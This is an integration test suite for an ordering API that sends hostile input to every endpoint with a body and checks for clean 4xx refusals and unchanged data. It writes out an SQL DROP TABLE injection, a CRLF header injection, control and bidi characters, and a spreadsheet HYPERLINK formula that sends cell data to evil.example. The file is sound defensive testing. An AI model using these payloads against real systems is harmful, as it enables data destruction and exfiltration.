package io.ordo.it;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.ByteArrayInputStream;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.sql.SQLException;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.Test;

/**
 * Walks every operation of the served OpenAPI document that takes a body and throws hostile input
 * at it, as the right role: each answer is a precise 4xx problem+json without internals, and no
 * account, order, key or payment is created or removed by any of it.
 */
class HostileInputIT extends PackagedServer {

    private static final int OVER_THE_LIMIT = 300 * 1024;

    private record Operation(String method, String path, String mediaType, List<String> fields, String role) {
    }

    /** @param expected the acceptable statuses; empty: any 4xx but 401 and 403 */
    private record Attack(String name, String contentType, String accept, byte[] body, boolean chunked, int... expected) {

        static Attack refused(String name, String contentType, byte[] body) {
            return new Attack(name, contentType, "application/json", body, false);
        }
    }

    @Test
    void every_operation_with_a_body_refuses_hostile_input_precisely_and_changes_nothing() throws SQLException {
        Map<String, String> tokens = Map.of("storefront", Http.storefrontToken(), "staff", Http.staffToken(),
                "admin", Http.adminToken());
        List<Operation> operations = operationsWithBodies();
        assertThat(operations).as("operations that take a body").hasSizeGreaterThanOrEqualTo(8);
        Map<String, Long> before = GuardedTables.counts();

        List<String> failures = new ArrayList<>();
        for (Operation operation : operations) {
            for (Attack attack : attacks(operation)) {
                Http.Reply reply = Http.sendMalformed(request(operation, attack, tokens.get(operation.role())));
                String verdict = judge(reply, operation.path().matches(".*/oauth/(token|revoke)"), attack.expected());
                if (verdict != null) {
                    failures.add(operation.method() + " " + operation.path() + " / " + attack.name() + ": " + verdict);
                }
            }
        }

        assertThat(failures).isEmpty();
        assertThat(GuardedTables.counts()).as("rows in tables that only accepted requests change").isEqualTo(before);
    }

    @Test
    void hostile_text_in_a_name_phone_or_address_is_refused_naming_the_field_and_creates_nothing() throws SQLException {
        String storefront = Http.storefrontToken();
        Map<String, Long> before = GuardedTables.counts();
        List<String> escapedHostile = List.of("Ada\\u0000", "\\u001b[2J\\u001b[31mAda", "Ada\\r\\nX-Injected: 1", "Ada\\tLovelace",
                "\\u202eecalevoL", "\\u2066Ada\\u2069", "\\ufeffAda", "Ada\\ufdd0", "Ada\\uffff", "Ada\\ud800", "Ada\\udc00",
                "Ada\\u0085", "Ada\\u009b31m", "Ada\\u2028");
        List<String> failures = new ArrayList<>();

        for (String field : List.of("name", "phone", "address")) {
            for (String hostile : escapedHostile) {
                Http.Reply reply = Orders.place(storefront, orderWith(field, hostile));
                boolean refusedNamingIt = reply.status() == 400 && reply.contentType().startsWith("application/problem+json")
                        && reply.json().path("errors").findValuesAsText("field").equals(List.of("customer." + field));
                if (!refusedNamingIt) {
                    failures.add(field + " = " + hostile + ": " + reply);
                }
            }
        }

        assertThat(failures).isEmpty();
        assertThat(GuardedTables.counts()).as("nothing was created").isEqualTo(before);
    }

    @Test
    void letters_and_marks_of_every_script_are_accepted_and_kept_as_sent() {
        String storefront = Http.storefrontToken();
        String name = "Łukasz Żółć محمد שלום 李小龍 Nguyễn देवनागरी Zoë";

        Http.Reply placed = Orders.place(storefront, orderWith("name", name));

        assertThat(placed.status()).as(placed.toString()).isEqualTo(201);
        // Paid before the test ends, so that no other test here sees its payment appear.
        JsonNode order = Orders.awaitStatus(storefront, placed.json().get("id").asText(), "PAID");
        assertThat(order.path("customer").path("name").asText()).isEqualTo(name);
    }

    @Test
    void a_body_that_is_not_utf_8_is_refused_rather_than_repaired() throws SQLException {
        Map<String, Long> before = GuardedTables.counts();
        byte[] latin1 = orderWith("name", "Zo\u00eb").getBytes(StandardCharsets.ISO_8859_1);

        Http.Reply reply = Http.send(Http.api("orders", Http.storefrontToken()).header("Content-Type", "application/json")
                .header("Idempotency-Key", UUID.randomUUID().toString()).POST(HttpRequest.BodyPublishers.ofByteArray(latin1)));

        assertThat(reply.status()).as(reply.toString()).isEqualTo(400);
        assertThat(reply.json().get("detail").asText()).contains("UTF-8");
        assertThat(GuardedTables.counts()).isEqualTo(before);
    }

    @Test
    void a_customer_name_a_spreadsheet_would_run_is_exported_as_text() {
        String storefront = Http.storefrontToken();
        String formula = "=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"click\\\")";
        Http.Reply placed = Orders.place(storefront, orderWith("name", formula));
        assertThat(placed.status()).as(placed.toString()).isEqualTo(201);
        Orders.awaitStatus(storefront, placed.json().get("id").asText(), "PAID");

        String csv = Http.send(Http.api("admin/orders/export?format=csv", Http.adminToken()).GET()).raw().body();

        String row = csv.lines().filter(line -> line.startsWith(placed.json().get("id").asText())).findFirst().orElseThrow();
        assertThat(row).contains(",\"'=HYPERLINK(").doesNotContain(",=HYPERLINK(").doesNotContain(",\"=HYPERLINK(");
    }

    /** An order that is valid but for the customer's {@code field}, set to {@code jsonText} as written between quotes. */
    private static String orderWith(String field, String jsonText) {
        Map<String, String> customer = new LinkedHashMap<>(Map.of("name", "Ada Lovelace", "email", "ada@example.org",
                "phone", "+44 20 7946 0958", "address", "12 St James's Square, London"));
        customer.put(field, jsonText);
        StringBuilder json = new StringBuilder("{\"customer\":{");
        customer.forEach((name, value) -> json.append(json.charAt(json.length() - 1) == '{' ? "" : ",")
                .append('"').append(name).append("\":\"").append(value).append('"'));
        return json.append("},\"currency\":\"EUR\",\"paymentMethod\":\"tok_visa\",")
                .append("\"lines\":[{\"sku\":\"KB-001\",\"quantity\":1}]}").toString();
    }

    /** @param oauth the token endpoint, which answers errors in the OAuth 2.0 format (RFC 6749 §5.2) */
    private static String judge(Http.Reply reply, boolean oauth, int... expected) {
        int status = reply.status();
        boolean statusRight = expected.length == 0 ? status >= 400 && status < 500 && status != 401 && status != 403
                : java.util.Arrays.stream(expected).anyMatch(e -> e == status);
        if (!statusRight) {
            return "answered " + reply;
        }
        String body = reply.raw().body();
        boolean oauthError = oauth && reply.contentType().startsWith("application/json") && reply.json().path("error").isTextual();
        if (!reply.contentType().startsWith("application/problem+json") && !oauthError) {
            return "answered " + status + " as " + reply.contentType();
        }
        for (String internal : List.of("Exception", "\tat ", "org.hibernate", "org.postgresql", "java.lang", "jakarta.")) {
            if (body.contains(internal)) {
                return "leaks internals (" + internal + "): " + body;
            }
        }
        JsonNode problem = reply.json();
        String detail = problem.path(oauthError ? "error_description" : "detail").asText("");
        if (detail.isBlank()) {
            return "no detail a person can act on: " + body;
        }
        return null;
    }

    private static List<Attack> attacks(Operation operation) {
        String type = operation.mediaType();
        List<Attack> attacks = new ArrayList<>();
        attacks.add(Attack.refused("malformed", type, bytes(type.contains("json") ? "{\"a\": " : "%%%=&=")));
        attacks.add(Attack.refused("empty", type, new byte[0]));
        if (!operation.path().endsWith("/import")) {
            // Bulk imports take files up to 16 MiB; CatalogueIT sends them a bigger one.
            attacks.add(new Attack("over the size limit", type, "application/json", padded(type, OVER_THE_LIMIT), false, 413));
            attacks.add(new Attack("over the size limit, chunked", type, "application/json", padded(type, OVER_THE_LIMIT), true, 413));
        }
        attacks.add(new Attack("wrong content type", "text/plain", "application/json", bytes("{}"), false, 415));
        attacks.add(new Attack("xml", "application/xml", "application/json", bytes("<order/>"), false, 415));
        attacks.add(new Attack("wants xml back", type, "application/xml", bytes("{}"), false, 406));
        if (type.contains("json")) {
            attacks.add(Attack.refused("an array", type, bytes("[]")));
            attacks.add(Attack.refused("a number", type, bytes("1e400")));
            attacks.add(Attack.refused("deep nesting", type, bytes("[".repeat(50_000) + "]".repeat(50_000))));
            attacks.add(Attack.refused("deep nesting in a field", type,
                    bytes("{\"" + first(operation) + "\":" + "{\"a\":".repeat(20_000) + "1" + "}".repeat(20_001))));
            attacks.add(Attack.refused("unknown field", type, bytes("{\"owner\":\"someone-else\"}")));
            attacks.add(Attack.refused("wrong types", type, fields(operation, "[[1,2],{\"x\":true}]")));
            attacks.add(Attack.refused("numbers out of range", type, fields(operation, "99999999999999999999999")));
            attacks.add(Attack.refused("huge strings", type, fields(operation, "\"" + "x".repeat(100_000) + "\"")));
            attacks.add(Attack.refused("NUL characters", type, fields(operation, "\"a\\u0000b\"")));
            attacks.add(Attack.refused("a lone surrogate", type, fields(operation, "\"\\ud800\"")));
            attacks.add(Attack.refused("control and bidi characters", type,
                    fields(operation, "\"\\u202e\\u0007\\u001b[2J\"")));
            attacks.add(Attack.refused("SQL", type,
                    fields(operation, "\"x'); DROP TABLE ordering.orders; --\"")));
        }
        return attacks;
    }

    private static String first(Operation operation) {
        return operation.fields().isEmpty() ? "a" : operation.fields().get(0);
    }

    /** A body with every documented field set to {@code jsonValue}. */
    private static byte[] fields(Operation operation, String jsonValue) {
        List<String> names = operation.fields().isEmpty() ? List.of("a") : operation.fields();
        StringBuilder json = new StringBuilder("{");
        for (String name : names) {
            json.append(json.length() > 1 ? "," : "").append('"').append(name).append("\":").append(jsonValue);
        }
        return bytes(json.append('}').toString());
    }

    private static byte[] padded(String mediaType, int size) {
        String body = mediaType.contains("json") ? "{\"a\":\"" + "x".repeat(size) + "\"}" : "a=" + "x".repeat(size);
        return bytes(body);
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static HttpRequest.Builder request(Operation operation, Attack attack, String token) {
        String uri = operation.path().replaceAll("\\{[^}]+}", UUID.randomUUID().toString());
        HttpRequest.BodyPublisher body = attack.chunked()
                ? HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(attack.body()))
                : HttpRequest.BodyPublishers.ofByteArray(attack.body());
        return HttpRequest.newBuilder(Stack.server().resolve(uri))
                .header("Authorization", "Bearer " + token)
                .header("Content-Type", attack.contentType())
                .header("Accept", attack.accept())
                .header("Idempotency-Key", UUID.randomUUID().toString())
                .method(operation.method(), body);
    }

    private static List<Operation> operationsWithBodies() {
        JsonNode document = Http.send(HttpRequest.newBuilder(Stack.server().resolve("/openapi"))
                .header("Accept", "application/json").GET()).json();
        List<Operation> operations = new ArrayList<>();
        document.get("paths").fields().forEachRemaining(path -> path.getValue().fields().forEachRemaining(entry -> {
            JsonNode content = entry.getValue().path("requestBody").path("content");
            Iterator<String> mediaTypes = content.fieldNames();
            if (!mediaTypes.hasNext()) {
                return;
            }
            String mediaType = mediaTypes.next();
            List<String> fields = new ArrayList<>();
            resolve(document, content.get(mediaType).path("schema")).path("properties").fieldNames().forEachRemaining(fields::add);
            operations.add(new Operation(entry.getKey().toUpperCase(Locale.ROOT), path.getKey(), mediaType, fields,
                    roleFor(entry.getValue())));
        }));
        return operations;
    }

    private static JsonNode resolve(JsonNode document, JsonNode schema) {
        String ref = schema.path("$ref").asText("");
        return ref.startsWith("#/components/schemas/")
                ? document.path("components").path("schemas").path(ref.substring("#/components/schemas/".length()))
                : schema;
    }

    /** The least privileged role the document allows, or admin for open operations (any token will do). */
    private static String roleFor(JsonNode operation) {
        List<String> roles = new ArrayList<>();
        operation.path("security").forEach(requirement -> requirement.path("bearer").forEach(role -> roles.add(role.asText())));
        return roles.contains("storefront") ? "storefront" : roles.contains("staff") ? "staff" : "admin";
    }
}
